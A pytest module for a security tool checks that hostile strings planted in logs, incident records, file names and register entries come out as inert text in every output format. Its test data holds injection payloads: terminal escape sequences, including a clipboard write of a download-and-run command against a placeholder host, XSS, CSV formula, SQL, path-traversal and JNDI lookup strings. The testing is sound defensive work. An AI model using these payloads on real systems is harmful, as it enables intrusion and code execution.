"""Hostile strings through every output: 0 interpretations.

Each string of ``HOSTILE`` is planted everywhere an attacker (or a careless colleague) controls text: a log line
(user name, URL, user agent, host name), an incident's title, owner and note, an evidence file's original name,
a register activity's name, purpose and controller, an asset's host name, an alert note, a breach's reasoning
and notification note, a playbook step note, a DPIA's texts and the name of a file YARA matches. One store per
string; then every sink renders it:

- terminal: the screens run through the CLI with ``FORCE_COLOR`` (rich's Console then forces a terminal, as on a
  TTY); the escape sequences in them must be ones rich writes for the same screens over a harmless placeholder,
  no control or bidi character of the input reaches the screen raw, markup shows as text, long values are cut;
- JSON (``--json``, reports, ECS export): valid, the string round-trips, no raw DEL/C1 character;
- Markdown: markup characters escaped (rendered with markdown-it, no element or link comes from the input);
- HTML: parsed with ``html.parser``, no element or attribute comes from the input;
- CSV: no cell starts a formula (OWASP: ``'`` in front);
- SQLite: every row holds the string as it was given; files: nothing is written outside the intended folder.

A NUL cannot be in a command-line argument (argv holds C strings), so a name with one only comes as data; the
file sinks skip names with a slash (a path the user typed, not a name) and check that a name Linux refuses (too
long) is a clean error. Every (string, sink) pair is one test; ``test_pairs_tried`` states how many.
"""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import json
import re
import sqlite3
import stat
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import yaml
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt
from rich.console import Console
from rich.text import Text
from test_triage import ESCAPE

from seccenter import pipeline
from seccenter.cli import main
from seccenter.collect.interface import CollectOptions
from seccenter.detect.sigma import RuleSet, load_rules, standard_pipeline
from seccenter.privacy.register_csv import restore
from seccenter.privacy.register_io import parse_register
from seccenter.report.render import md
from seccenter.report.terminal import LEVEL_STYLES, TEXT_LIMIT, json_text, visible
from seccenter.resources import sigma_rules
from seccenter.store.db import open_db

pytestmark = pytest.mark.reliability

LONG = 1_000_000  # a line stays under the collectors' 1 MiB limit, so the value is stored, not quarantined
HOSTILE: dict[str, str] = {
    "ansi-colour": "\x1b[31mRED\x1b[0m\x1b[38;5;201mpink\x1b[48;2;0;0;0mbg",
    "ansi-cursor": "\x1b[2A\x1b[10Dover\x1b[K\x1b7\x1b8\x1b[?25l",
    "ansi-clear": "\x1b[2J\x1b[3J\x1b[H\x1bcclear",
    "osc8-hyperlink": "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied",
    "osc-title-st": "\x1b]0;pwned\x1b\\title",
    "bare-esc": "a\x1bb\x1b",
    "c1-csi": "\x9b31mC1\x9b0m",
    "c1-osc": "\x9d0;title\x9c\x90dcs\x9c",
    "bel-bs-cr": "ok\x07\x08\x08\rFAKE\x0b\x0c",
    "bidi-override": "invoice\u202egpj.exe\u202c \u2066x\u2069",
    "zero-width": "adm\u200bin\u200c\u200d\u2060\ufeff",
    "rich-markup": "[red]red[/red] [bold]b",
    "rich-link": "[link=file:///etc/passwd]passwd[/link]",
    "rich-close": "[/]",
    "html-script": "<script>alert(1)</script>",
    "html-attribute": "\"><img src=x onerror=alert(1)>",
    "js-url": "javascript:alert(document.cookie)",
    "md-link": "[click](javascript:alert(1)) ![i](http://evil.example/t.png) <a href=\"javascript:x\">a</a>",
    "md-structure": "# heading\n| a | b |\n---\n* item `code` _em_",
    "csv-equals": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "csv-plus": "+cmd|' /C calc'!A0",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(A1:A9)",
    "csv-tab": "\t=1+1",
    "csv-cr": "\r=1+1",
    "sql-quote": "'; DROP TABLE alerts; --",
    "sql-double-quote": "\" OR \"1\"=\"1\" /* x */",
    "path-parent": "../../../../tmp/hostile-escape",
    "path-absolute": "/etc/passwd",
    "nul": "nul\x00byte",
    "template": "{{7*7}}{% raw %}${jndi:ldap://evil.example/a}%s%n",
    "long-plain": "A" * LONG,
    "long-escapes": "\x1b[31m[red]<b>=x\u202e" * 6_250,  # 100 000 characters: the longest title kept
}
PLACEHOLDER = "placeholder"
SHORT = 10_000
"""Values up to this long are expected on screen and in documents as given; longer ones may be refused
(titles, notes) and are cut on the terminal."""

RAW = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
"""What a terminal acts on, or what reorders or hides text: never raw in an output (a screen's own escape
sequences aside; in JSON as \\u escapes, the same value)."""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
COLUMNS = "2000"  # wide enough that table cells do not wrap into each other
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
UTC = ZoneInfo("UTC")


def file_name_allowed(text: str) -> bool:
    """Whether Linux lets ``text`` be one file name (no slash, no NUL, at most 255 bytes)."""
    return "/" not in text and "\x00" not in text and text not in ("", ".", "..") and len(text.encode()) <= 255


def as_line(text: str) -> str:
    """The text as one log line can carry it (a line ends at the newline)."""
    return text.replace("\n", " ")


def apache_quoted(text: str) -> str:
    """A value inside the quotes of an access log line, escaped as Apache escapes ``\\`` and ``"``."""
    return as_line(text).replace("\\", "\\\\").replace('"', '\\"')


# --- stores ---------------------------------------------------------------------------------------------------

RUNNER = CliRunner()


def cli(db: Path, *args: str, colour: bool = False) -> Result:
    """Run seccenter; a traceback (an exception other than click's exits) is a failure of its own."""
    env = {"COLUMNS": COLUMNS, "FORCE_COLOR": "1" if colour else None, "NO_COLOR": None, "TTY_COMPATIBLE": None}
    result = RUNNER.invoke(main, ["--db", str(db), *args], env=env)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"seccenter {' '.join(args[:3])} crashed:\n"
                             + "".join(traceback.format_exception(result.exception)))
    return result


@dataclass
class Store:
    """One store with ``text`` planted everywhere; ``refused`` names the places that refused it (too long for
    a title, say) and hold the placeholder instead."""

    text: str
    folder: Path
    db: Path
    alert_ids: list[int] = field(default_factory=list)
    refused: dict[str, str] = field(default_factory=dict)
    outputs: dict[str, Any] = field(default_factory=dict)

    @property
    def short(self) -> bool:
        return len(self.text) <= SHORT

    def plant(self, step: str, *args: str) -> None:
        """Run a command with the text in it; if it refuses the text cleanly, run it with the placeholder."""
        result = cli(self.db, *args)
        if result.exit_code == 0:
            return
        assert result.exit_code == 1 and result.output.startswith("Error: "), (step, result.output[:500])
        assert not RAW.search(result.output[:-1]), (step, result.output[:300])
        self.refused[step] = result.output
        again = cli(self.db, *[arg.replace(self.text, PLACEHOLDER) if self.text in arg else arg for arg in args])
        assert again.exit_code == 0, (step, again.output[:500])


def plant(folder: Path, text: str, rules: RuleSet, yara_cache: Path) -> Store:
    folder.mkdir()
    store = Store(text, folder, folder / "seccenter.db")
    logs = folder / "logs"
    logs.mkdir()
    (logs / "auth.log").write_text(f"Nov  3 10:00:01 srv01 sshd[1]: Failed password for invalid user {as_line(text)} "
                                   "from 203.0.113.7 port 51234 ssh2\n", encoding="utf-8")
    (logs / "access.log").write_text(
        f'203.0.113.8 - - [03/Nov/2026:10:00:03 +0100] "GET /search?q={apache_quoted(text)} HTTP/1.1" 200 5 "-" '
        '"sqlmap/1.9"\n'
        f'203.0.113.8 - - [03/Nov/2026:10:00:04 +0100] "GET / HTTP/1.1" 200 5 "-" '
        f'"sqlmap/1.9 ({apache_quoted(text)})"\n', encoding="utf-8")
    (logs / "security.jsonl").write_text("".join(json.dumps(  # the second one is left to `incident propose`
        {"TimeCreated": f"2026-11-03T10:00:0{second}Z", "EventID": 1102, "Channel": "Security", "Computer": text,
         "EventRecordID": second}) + "\n" for second in (5, 6)), encoding="utf-8")
    database = open_db(store.db)
    pipeline.ingest(database, [logs], rules, options=CollectOptions(tz=UTC, year=2026))
    store.alert_ids = [row[0] for row in database.execute("SELECT id FROM alerts ORDER BY id")]
    database.close()

    texts = text if store.short else PLACEHOLDER  # a long value in one field of a record is enough, and quicker
    store.plant("activity", "ropa", "add", "--id", "VT-1", "--name", text, "--purpose", texts, "--controller", text,
                "--controller-contact", texts, "--data-subject", texts, "--data-category", texts,
                "--special-category", "health", "--legal-basis", "Art. 6(1)(e)", "--legal-basis", "Art. 9(2)(g)",
                "--retention", texts, "--system", "asset-1")
    store.plant("asset", "asset", "add", "asset-1", "--hostname", text, "--name", text, "--owner", text,
                "--activity", "VT-1")
    store.plant("alert note", "alerts", "ack", str(store.alert_ids[-1]), "--note", text)
    store.plant("incident", "incident", "open", "--title", text, "--owner", text, "--category", "data-breach",
                *[arg for alert_id in store.alert_ids[:-1] for arg in ("--alert", str(alert_id))])
    store.plant("incident note", "incident", "note", "1", "--", text)
    evidence = folder / "evidence-in"
    evidence.mkdir()
    for name in {PLACEHOLDER, text} if file_name_allowed(text) else {PLACEHOLDER}:
        (evidence / name).write_text("Received: from evil.example\n")
    # a name Linux cannot hold is refused with a clean error, and the placeholder's file is added instead (a NUL
    # cannot be in an argument at all: argv holds C strings)
    path = f"{evidence}/{text}" if "\x00" not in text else f"{evidence}/{PLACEHOLDER}"
    store.plant("evidence", "incident", "evidence", "add", "1", path, "--description", text)
    store.plant("breach", "breach", "assess", "1", "--aware-at", "2026-11-03T12:00", "--confidentiality",
                "--subjects", "40", "--reasoning", text)
    store.plant("notification", "breach", "notified", "1", "art33_authority", "--at", "2026-11-04T10:00",
                "--note", text, "--delay-reason", text)
    assert cli(store.db, "playbook", "start", "1", "personal-data-breach").exit_code == 0
    store.plant("playbook note", "playbook", "step", "1", "confirm", "--done", "--note", text)
    dpia = folder / "dpia.yaml"
    dpia.write_text(yaml.safe_dump({
        "description": text, "necessity_proportionality": texts, "measures": [texts], "dpo_opinion": texts,
        "risks": [{"event": "illegitimate_access", "description": texts, "threats": [texts], "severity": "limited",
                   "likelihood": "significant", "measures": [texts]}]}, allow_unicode=False), encoding="utf-8")
    store.plant("dpia", "dpia", "create", "VT-1", "--from", str(dpia))

    scanned = folder / "scan"
    scanned.mkdir()
    (scanned / (text if file_name_allowed(text) else PLACEHOLDER)).write_bytes(EICAR)
    yara = ("yara", "scan", str(scanned), "--cache-dir", str(yara_cache))
    store.outputs["yara scan"] = cli(store.db, *yara, colour=True).output
    store.outputs["yara scan --json"] = cli(store.db, *yara, "--full", "--json").output
    return store


class Stores:
    """The harmless store (built once) and the store of the string under test (one at a time: the tests run
    string by string, and a store of a 1 MB string is big)."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.rules = load_rules([sigma_rules()], standard_pipeline())
        self.yara_cache = base / "yara-cache"
        self.cwd = base / "cwd"
        self.cwd.mkdir()
        self.harmless = plant(base / "harmless", PLACEHOLDER, self.rules, self.yara_cache)
        self.current: tuple[str, Store | AssertionError] | None = None

    def get(self, name: str) -> Store:
        if self.current is None or self.current[0] != name:
            try:
                self.current = name, plant(self.base / name, HOSTILE[name], self.rules, self.yara_cache)
            except AssertionError as error:  # each test of the string fails with it, none plants again
                self.current = name, error
        if isinstance(self.current[1], AssertionError):
            raise self.current[1]
        return self.current[1]


@pytest.fixture(scope="module")
def stores(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stores]:
    base = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(base)  # a relative path written by mistake lands here, not in the checkout
        built = Stores(base)
        patch.chdir(built.cwd)
        yield built
    assert list(built.cwd.iterdir()) == []


# --- sinks ----------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Sink:
    name: str
    kind: str  # terminal, json, jsonl, md, html, csv, register-csv, sqlite, files
    render: Callable[[Store], str]
    applies: Callable[[str], bool] = lambda text: True
    shown: Callable[[str], str] = lambda text: text
    """How the sink quotes the text before making it visible."""
    bounded: bool = True
    """Whether a long text must be cut (an error message may echo in full what was typed)."""


def command(*args: str, colour: bool = False) -> Callable[[Store], str]:
    """A screen (``colour``: stdout and stderr as a terminal shows them) or a document (stdout only)."""
    def render(store: Store) -> str:
        result = cli(store.db, *args, colour=colour)
        assert result.exit_code == 0, result.output[:1000]
        return result.output if colour else result.stdout
    return render


def each_alert(*args: str, colour: bool = False) -> Callable[[Store], str]:
    def render(store: Store) -> str:
        return "".join(command("alerts", "show", str(alert_id), *args, colour=colour)(store)
                       for alert_id in store.alert_ids)
    return render


def kept(name: str) -> Callable[[Store], str]:
    return lambda store: store.outputs[name]


def errors(store: Store) -> str:
    """Error messages that quote what was typed."""
    text = store.text
    outputs = [cli(store.db, *args) for args in (
        ("ropa", "show", "--", text), ("dpia", "show", "--", text), ("asset", "link", "--", text, "VT-1"),
        ("playbook", "start", "1", "--", text), ("alerts", "--rule", text))]
    assert all(result.exit_code in (0, 1) for result in outputs), [result.output[:200] for result in outputs]
    return "".join(result.output for result in outputs)


def terminal(name: str, *args: str) -> Sink:
    return Sink(name, "terminal", command(*args, colour=True))


TERMINAL_SINKS = [
    terminal("triage", "triage"),
    terminal("alerts", "alerts"),
    Sink("alerts show", "terminal", each_alert(colour=True)),
    terminal("incident show", "incident", "show", "1"),
    terminal("incident list", "incident", "list"),
    Sink("incident evidence check", "terminal", command("incident", "evidence", "check", "1", colour=True),
         file_name_allowed),
    Sink("incident propose", "terminal", command("incident", "propose", colour=True),  # shell-quoted titles
         shown=lambda text: text.replace("'", "'\"'\"'")),
    terminal("playbook show", "playbook", "show", "1"),
    terminal("breach show", "breach", "show", "1"),
    terminal("ropa list", "ropa", "list"),
    terminal("ropa show", "ropa", "show", "VT-1"),
    terminal("asset list", "asset", "list"),
    terminal("dpia show", "dpia", "show", "DPIA-0001"),
    terminal("dpia screen", "dpia", "screen", "VT-1"),
    Sink("yara scan", "terminal", kept("yara scan"), file_name_allowed),
    Sink("error messages", "terminal", errors, bounded=False),
]
REPORTS = [("ropa",), ("dpia",), ("breach", "1"), ("incident", "1")]
DOCUMENT_SINKS = [
    *[Sink(f"report {' '.join(kind)} --format {fmt}", fmt, command("report", *kind, "--format", fmt, "--lang", "en"))
      for kind in REPORTS for fmt in ("md", "html", "json")],
    *[Sink(f"report {kind} --format csv", "csv", command("report", kind, "--format", "csv", "--lang", "en"))
      for kind in ("ropa", "dpia")],
    Sink("ropa export --format csv", "register-csv", command("ropa", "export", "--format", "csv")),
    *[Sink(f"{' '.join(args)} --json", "json", command(*args, "--json")) for args in (
        ("triage",), ("alerts",), ("incident", "show", "1"), ("incident", "list"), ("breach", "show", "1"),
        ("ropa", "list"), ("ropa", "show", "VT-1"), ("asset", "list"), ("dpia", "show", "DPIA-0001"),
        ("playbook", "show", "1"))],
    Sink("incident evidence check 1 --json", "json", command("incident", "evidence", "check", "1", "--json"),
         file_name_allowed),
    Sink("alerts show --json", "jsonl", each_alert("--json")),
    Sink("yara scan --json", "json", kept("yara scan --json"), file_name_allowed),
    *[Sink(f"export {kind} --format ecs-jsonl", "jsonl", command("export", kind, "--format", "ecs-jsonl"))
      for kind in ("alerts", "events")],
]


def stored_rows(store: Store) -> str:
    with contextlib.closing(sqlite3.connect(store.db)) as connection:
        tables = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        return json.dumps({
            "integrity": connection.execute("PRAGMA integrity_check").fetchone()[0],
            "tables": sorted(row[0] for row in tables),
            "alerts": connection.execute("SELECT count(*) FROM alerts").fetchone()[0],
            "values": {
                "incident": connection.execute("SELECT title FROM incidents WHERE id = 1").fetchone()[0],
                "incident owner": connection.execute("SELECT owner FROM incidents WHERE id = 1").fetchone()[0],
                "incident note": connection.execute(
                    "SELECT detail FROM incident_activity WHERE kind = 'note'").fetchone()[0],
                "alert note": connection.execute("SELECT note FROM alert_notes").fetchone()[0],
                "activity": connection.execute(
                    "SELECT name FROM processing_activities WHERE id = 'VT-1'").fetchone()[0],
                "asset": connection.execute("SELECT hostname FROM assets WHERE id = 'asset-1'").fetchone()[0],
                "evidence": connection.execute("SELECT description FROM incident_evidence").fetchone()[0],
                "notification": connection.execute("SELECT note FROM breach_submissions").fetchone()[0],
                "playbook note": connection.execute(
                    "SELECT note FROM playbook_steps WHERE path = 'confirm'").fetchone()[0],
                "host": json.loads(connection.execute("SELECT fields FROM events WHERE source = 'jsonl'")
                                   .fetchone()[0])["Computer"],
            },
            "evidence name": connection.execute("SELECT original_name FROM incident_evidence").fetchone()[0],
        })


SQLITE_SIDE = re.compile(r"seccenter\.db-(wal|shm|journal)$")
"""SQLite's own files beside the store, there or not depending on when a connection was last closed."""


def files_written(store: Store) -> str:
    """Every file in the store's folder, relative to it, after the plantings and an ``-o`` of each writer into
    ``out/`` under the text as its name (where Linux allows that name)."""
    out = store.folder / "out"
    out.mkdir(exist_ok=True)
    target = str(out / store.text)
    writers = (("report", "ropa", "--format", "html", "-o", target), ("export", "alerts", "-o", target),
               ("ropa", "export", "--format", "csv", "-o", target))
    results = {}
    for args in writers:
        result = cli(store.db, *args)
        results[args[0] + " " + args[1]] = result.exit_code
        if file_name_allowed(store.text):
            written = out / store.text
            assert result.exit_code == 0 and stat.S_IMODE(written.stat().st_mode) == 0o600, result.output[:300]
            written.rename(out / f"{args[0]}-{args[1]}")
    files = [str(path.relative_to(store.folder)) for path in store.folder.rglob("*")]
    return json.dumps({"exit codes": results, "files": sorted(name for name in files if not SQLITE_SIDE.match(name))})


STORE_SINKS = [Sink("sqlite rows", "sqlite", stored_rows),
               Sink("files written", "files", files_written, lambda text: "/" not in text and "\x00" not in text)]
SINKS = [*TERMINAL_SINKS, *DOCUMENT_SINKS, *STORE_SINKS]
PAIRS = [(name, sink) for name in HOSTILE for sink in SINKS if sink.applies(HOSTILE[name])]


# --- checks ---------------------------------------------------------------------------------------------------

@functools.cache
def rich_styles() -> set[str]:
    """The escape sequences rich writes for the alert level colours (a hostile URL may fire a rule of a level
    the harmless store has no alert of)."""
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=80)
    for style in LEVEL_STYLES.values():
        console.print(Text("x", style=style))
    return set(ESCAPE.findall(out.getvalue()))


def squashed(text: str) -> str:
    return re.sub(r"[\s│┃║|─━═┆┊╎]+", "", text)


def first_line(text: str) -> str:
    """The text's first line as stored (titles, names and notes lose surrounding white space)."""
    return next((line.strip() for line in text.strip().splitlines() if line.strip()), "")


def shown_prefix(text: str, quote: Callable[[str], str] = lambda text: text) -> str:
    """The start of the text as the terminal and documents show it: control characters visible."""
    return squashed(visible(quote(first_line(text)), limit=None))[:16]


def as_stored(text: str) -> set[str]:
    """The forms a value is kept in: as given, or without surrounding white space (titles, names, notes)."""
    return {text, text.strip()}


def check_terminal(screen: str, harmless: str, store: Store, sink: Sink) -> None:
    escapes = set(ESCAPE.findall(screen))
    allowed = set(ESCAPE.findall(harmless)) | rich_styles()
    assert escapes <= allowed, f"escape sequences not written for the harmless text: {escapes - allowed}"
    plain, harmless_plain = ESCAPE.sub("", screen), ESCAPE.sub("", harmless)
    raw = set(RAW.findall(plain)) - set(RAW.findall(harmless_plain))  # rich's own \r of a progress bar
    assert not raw, f"raw {raw} on screen"
    if sink.bounded:
        assert "A" * (TEXT_LIMIT + 1) not in plain, "a long value is not cut"
        assert len(squashed(plain)) < len(squashed(harmless_plain)) + 20 * TEXT_LIMIT, "a long value is not cut"
    if store.short:
        assert shown_prefix(store.text, sink.shown) in squashed(plain), "the text is not shown (as text)"


def strings_in(document: Any) -> Iterator[str]:
    if isinstance(document, str):
        yield document
    elif isinstance(document, dict):
        for key, value in document.items():
            yield key
            yield from strings_in(value)
    elif isinstance(document, list):
        for item in document:
            yield from strings_in(item)


def json_documents(text: str) -> Iterator[Any]:
    """The JSON documents of a stream of them (JSON lines, or indented documents one after the other)."""
    decoder, position = json.JSONDecoder(), 0
    while position < len(text):
        if text[position].isspace():
            position += 1
            continue
        document, position = decoder.raw_decode(text, position)
        yield document


SHOWING_ONLY_REFUSED = {"incident list --json", "playbook show 1 --json"}
"""Documents that hold nothing but what refuses a 1 MB value (an incident's title and owner, a step's note)."""


def check_json(text: str, store: Store, lines: bool, sink_name: str) -> None:
    assert not RAW.search(text.replace("\n", "")), "a raw control or bidi character in the JSON text"
    documents = list(json_documents(text)) if lines else [json.loads(text)]
    values = [value for document in documents for value in strings_in(document)]
    if store.short or not store.refused or sink_name not in SHOWING_ONLY_REFUSED:
        forms = as_stored(store.text)
        assert any(form in value for value in values for form in forms), "the text does not round-trip"


class Elements(HTMLParser):
    """The elements and attributes of an HTML document, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[tuple[str, tuple[tuple[str, str | None], ...]]] = set()
        self.data: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add((tag, tuple(sorted(attrs))))

    def handle_data(self, data: str) -> None:
        self.data.append(data)

    def handle_comment(self, data: str) -> None:
        self.elements.add(("<!-- -->", ((data, None),)))


def check_html(page: str, harmless: str, store: Store) -> None:
    assert not RAW.search(page.replace("\n", "")), "a raw control or bidi character in the document"
    hostile, expected = Elements(page), Elements(harmless)
    assert hostile.elements <= expected.elements, f"elements from the input: {hostile.elements - expected.elements}"
    assert "<script" not in page.lower() or "<script" in harmless.lower()
    if store.short:
        assert shown_prefix(store.text) in squashed("".join(hostile.data)), "the text is not in the document"


MARKDOWN = MarkdownIt("commonmark")


UNESCAPED = re.compile(r"(?<!\\)<script|(?<!\\)\]\(javascript:", re.IGNORECASE)


def check_markdown(document: str, harmless: str, store: Store) -> None:
    assert not RAW.search(document.replace("\n", "")), "a raw control or bidi character in the document"
    assert not UNESCAPED.search(document), UNESCAPED.search(document)
    if store.short:  # markdown-it takes half a minute over the megabytes of escapes of a long value
        # multi-line text keeps its lines as hard line breaks: a <br> is the one element it may add
        check_html(MARKDOWN.render(document), MARKDOWN.render(harmless) + "<br>", store)
        assert squashed(md(first_line(store.text)))[:16] in squashed(document), "the text is not in the document"


def csv_rows(text: str) -> list[list[str]]:
    limit = csv.field_size_limit(1 << 24)  # cells of a 1 MB value
    try:
        return list(csv.reader(io.StringIO(text, newline="")))
    finally:
        csv.field_size_limit(limit)


def check_csv(text: str, harmless: str, store: Store) -> None:
    cells = [cell for row in csv_rows(text) for cell in row]
    expected = {cell for row in csv_rows(harmless) for cell in row}
    formulas = {cell for cell in cells if cell.startswith(FORMULA_START)} - expected
    assert not formulas, f"cells a spreadsheet runs: {sorted(formulas)[:3]}"
    if store.short:
        shown = visible(first_line(store.text), limit=None)
        assert any(shown in restore(cell) for cell in cells), "the text is not in a cell"


def check_register_csv(text: str, store: Store) -> None:
    rows = csv_rows(text)
    assert not [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_START)]
    register = parse_register(text.encode(), "export.csv", "csv").register
    activity = next(item for item in register.processing_activities if item.id == "VT-1")
    assert activity.name in ({PLACEHOLDER} if "activity" in store.refused else as_stored(store.text))


def check_sqlite(document: str, harmless: str, store: Store) -> None:
    rows, expected = json.loads(document), json.loads(harmless)
    assert rows["integrity"] == "ok" and rows["tables"] == expected["tables"] and rows["alerts"] > 0
    refused = {"incident owner": "incident", "evidence": "evidence", "host": None}
    for place, value in rows["values"].items():
        step = refused.get(place, place)
        assert value in ({PLACEHOLDER} if step in store.refused else as_stored(store.text)), place
    named = file_name_allowed(store.text) and "evidence" not in store.refused
    assert rows["evidence name"] == (store.text if named else PLACEHOLDER)


def check_files(document: str, harmless: str, store: Store) -> None:
    found, expected = json.loads(document), json.loads(harmless)
    written = {"out/report-ropa", "out/export-alerts", "out/ropa-export"}
    assert expected["exit codes"] == {"report ropa": 0, "export alerts": 0, "ropa export": 0}
    assert written <= set(expected["files"])
    if file_name_allowed(store.text):
        assert found["exit codes"] == expected["exit codes"]
    else:  # the name is too long to be a file name: a clean error each time, nothing written
        assert set(found["exit codes"].values()) == {1}
        expected["files"] = [name for name in expected["files"] if name not in written]
    renamed = {name.replace(store.text, PLACEHOLDER) for name in found["files"]}
    evidence = {name for name in renamed if name.startswith("seccenter.db.evidence/")}
    assert evidence and all(re.fullmatch(r"seccenter\.db\.evidence/[0-9a-f]{64}", name) for name in evidence)
    assert renamed == set(expected["files"]), "files written elsewhere"


@pytest.mark.parametrize(("name", "sink"), PAIRS, ids=[f"{name}-{sink.name}" for name, sink in PAIRS])
def test_hostile_string_is_data_in_every_output(stores: Stores, name: str, sink: Sink) -> None:
    store = stores.get(name)
    started = time.monotonic()
    output = sink.render(store)
    assert time.monotonic() - started < 20, "the output took too long"
    harmless = stores.harmless.outputs.get(f"sink:{sink.name}")
    if harmless is None:
        harmless = stores.harmless.outputs[f"sink:{sink.name}"] = sink.render(stores.harmless)
    if sink.kind == "terminal":
        check_terminal(output, harmless, store, sink)
    elif sink.kind in ("json", "jsonl"):
        check_json(output, store, sink.kind == "jsonl", sink.name)
    elif sink.kind == "html":
        check_html(output, harmless, store)
    elif sink.kind == "md":
        check_markdown(output, harmless, store)
    elif sink.kind == "csv":
        check_csv(output, harmless, store)
    elif sink.kind == "register-csv":
        check_register_csv(output, store)
    elif sink.kind == "sqlite":
        check_sqlite(output, harmless, store)
    else:
        check_files(output, harmless, store)


def test_pairs_tried() -> None:
    """The size of the matrix, for the closing note (``pytest -s -k pairs_tried``): every string reaches every
    kind of output; only the sinks that need it as a file name skip the strings Linux refuses as one."""
    kinds = Counter(sink.kind for _, sink in PAIRS)
    print(f"\n{len(HOSTILE)} hostile strings x {len(SINKS)} sinks: {len(PAIRS)} (string, sink) pairs tried ("
          + ", ".join(f"{kind} {count}" for kind, count in kinds.items()) + ")")
    every_kind = {sink.kind for sink in SINKS} - {"files"}  # -o takes no name with a slash: that is a path
    assert all({sink.kind for pair_name, sink in PAIRS if pair_name == name} >= every_kind for name in HOSTILE)
    tried = {sink.name: sum(pair_sink is sink for _, pair_sink in PAIRS) for sink in SINKS}
    assert {name for name, count in tried.items() if count < len(HOSTILE)} == {
        "incident evidence check", "incident evidence check 1 --json", "yara scan", "yara scan --json",
        "files written"}
    assert min(tried.values()) == 19  # the 19 strings that can be one file name
    assert len(PAIRS) == 1559


def test_bidi_and_zero_width_characters_are_shown_not_obeyed() -> None:
    """What the matrix found first, in small: "invoice\u202egpj.exe" showed as "invoiceexe.jpg" on screen and in
    documents, and DEL/C1 controls went raw into most JSON outputs."""
    assert visible("invoice\u202egpj.exe") == "invoice\\u202egpj.exe"
    assert visible("adm\u200bin\ufeff\x1b[31m") == "adm\\u200bin\\ufeff\\x1b[31m"
    text = json_text({"name": "a\u202eb\x9bc\x7f"}, indent=None)
    assert text == '{"name": "a\\u202eb\\u009bc\\u007f"}' and json.loads(text) == {"name": "a\u202eb\x9bc\x7f"}


def test_export_writes_only_its_file(tmp_path: Path, runner: CliRunner) -> None:
    """``export -o``: a link planted where the file or its temporary file goes is not written through, and a
    folder that does not exist or a name too long is a clean error, not a traceback."""
    db, out, secret = tmp_path / "s.db", tmp_path / "out", tmp_path / "secret"
    out.mkdir()
    secret.write_text("keep")
    (out / "alerts.ndjson.part").symlink_to(secret)  # where the temporary file used to be, predictably
    (out / "link.ndjson").symlink_to(secret)
    export = ["--db", str(db), "export", "alerts", "-o"]
    assert runner.invoke(main, [*export, str(out / "alerts.ndjson")]).exit_code == 0
    assert secret.read_text() == "keep" and stat.S_IMODE((out / "alerts.ndjson").stat().st_mode) == 0o600
    refused = runner.invoke(main, [*export, str(out / "link.ndjson")])
    assert refused.exit_code == 1 and "symbolic link" in refused.output and secret.read_text() == "keep"
    for target in (tmp_path / "missing" / "a.ndjson", out / ("x" * 300)):
        result = runner.invoke(main, [*export, str(target)])
        assert result.exit_code == 1 and result.output.startswith("Error: cannot write "), result.output
    assert sorted(path.name for path in out.iterdir()) == ["alerts.ndjson", "alerts.ndjson.part", "link.ndjson"]
